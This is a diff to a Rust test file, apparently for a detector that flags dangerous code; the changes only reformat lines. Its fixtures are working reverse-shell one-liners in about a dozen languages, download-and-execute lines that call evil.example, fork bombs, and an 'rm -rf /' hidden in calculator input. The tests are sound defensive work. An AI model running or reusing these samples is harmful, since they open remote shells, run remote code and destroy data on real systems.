@@ -3,22 +3,61 @@
 use super::*;
 
 const SHELLS_OVER_SOCKETS: &[(Language, &str)] = &[
-    (Python, "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"),
-    (Python, "import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")"),
-    (Python, "a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")"),
-    (Python, "import socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",1))\nwhile 1: s.send(subprocess.check_output(s.recv(1024).decode(),shell=True))"),
-    (Perl, "use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"),
-    (Perl, "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"),
+    (
+        Python,
+        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])",
+    ),
+    (
+        Python,
+        "import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")",
+    ),
+    (
+        Python,
+        "a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")",
+    ),
+    (
+        Python,
+        "import socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",1))\nwhile 1: s.send(subprocess.check_output(s.recv(1024).decode(),shell=True))",
+    ),
+    (
+        Perl,
+        "use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
+    ),
+    (
+        Perl,
+        "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
+    ),
     (Ruby, "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
-    (Ruby, "require 'socket'; c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"),
-    (JavaScript, "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();"),
+    (
+        Ruby,
+        "require 'socket'; c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end",
+    ),
+    (
+        JavaScript,
+        "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();",
+    ),
     (Php, "$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
-    (Php, "$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);"),
+    (
+        Php,
+        "$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);",
+    ),
     (Php, "$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;"),
-    (Lua, "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');"),
-    (Awk, "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}"),
-    (Tcl, "set s [socket 10.0.0.1 4242];while 42 { puts -nonewline $s \"shell>\";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;"),
-    (Groovy, "String host=\"10.0.0.1\";int port=4242;String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);"),
+    (
+        Lua,
+        "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');",
+    ),
+    (
+        Awk,
+        "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}",
+    ),
+    (
+        Tcl,
+        "set s [socket 10.0.0.1 4242];while 42 { puts -nonewline $s \"shell>\";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;",
+    ),
+    (
+        Groovy,
+        "String host=\"10.0.0.1\";int port=4242;String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);",
+    ),
 ];
 
 #[test]
@@ -38,11 +77,17 @@ fn downloads_that_are_run_are_found() {
         (Python, "import urllib.request; exec(urllib.request.urlopen('http://evil.example/x').read())"),
         (Python, "import requests; exec(requests.get('http://evil.example/x').text)"),
         (Python, "from urllib.request import urlopen as u; eval(u('http://evil.example/x').read())"),
-        (Python, "import urllib.request,os; urllib.request.urlretrieve('http://evil.example/x','/tmp/x'); os.system('sh /tmp/x')"),
+        (
+            Python,
+            "import urllib.request,os; urllib.request.urlretrieve('http://evil.example/x','/tmp/x'); os.system('sh /tmp/x')",
+        ),
         (Perl, "use LWP::Simple; eval get('http://evil.example/x')"),
         (Ruby, "require 'open-uri'; eval(URI.open('http://evil.example/x').read)"),
         (Ruby, "require 'net/http'; eval Net::HTTP.get(URI('http://evil.example/x'))"),
-        (JavaScript, "require('http').get('http://evil.example/x', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)) })"),
+        (
+            JavaScript,
+            "require('http').get('http://evil.example/x', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
+        ),
         (JavaScript, "fetch('http://evil.example/x').then(r => r.text()).then(t => eval(t))"),
         (Php, "eval(file_get_contents('http://evil.example/x'));"),
     ] {
@@ -63,7 +108,10 @@ fn plain_use_of_the_network_is_told_from_the_rest() {
         (Php, "echo file_get_contents('http://a.example/');"),
     ] {
         let facts = inspect(language, source);
-        assert!(facts.network && !facts.downloads_and_runs && !facts.shell_over_socket && !facts.pure, "{source}\n{facts:?}");
+        assert!(
+            facts.network && !facts.downloads_and_runs && !facts.shell_over_socket && !facts.pure,
+            "{source}\n{facts:?}"
+        );
         assert!(facts.hosts.iter().any(|host| host.contains("a.example")), "{source}\n{facts:?}");
     }
 }
@@ -86,7 +134,11 @@ fn fork_bombs_are_found() {
     ] {
         assert!(inspect(language, source).forks_forever, "{language:?}: {source}");
     }
-    for (language, source) in [(Python, "import os; os.fork()"), (Perl, "$p = fork; print $p"), (Python, "while True: print('fork')")] {
+    for (language, source) in [
+        (Python, "import os; os.fork()"),
+        (Perl, "$p = fork; print $p"),
+        (Python, "while True: print('fork')"),
+    ] {
         assert!(!inspect(language, source).forks_forever, "{language:?}: {source}");
     }
 }
@@ -183,7 +235,10 @@ fn commands_of_small_languages_are_found() {
         (Calculator, "1 2 + p !rm -rf /", "rm -rf /"),
     ] {
         let facts = inspect(language, source);
-        assert!(has_shell(&facts, command) && facts.executes && !facts.pure, "{language:?}: {source}\n{facts:?}");
+        assert!(
+            has_shell(&facts, command) && facts.executes && !facts.pure,
+            "{language:?}: {source}\n{facts:?}"
+        );
     }
 }
 
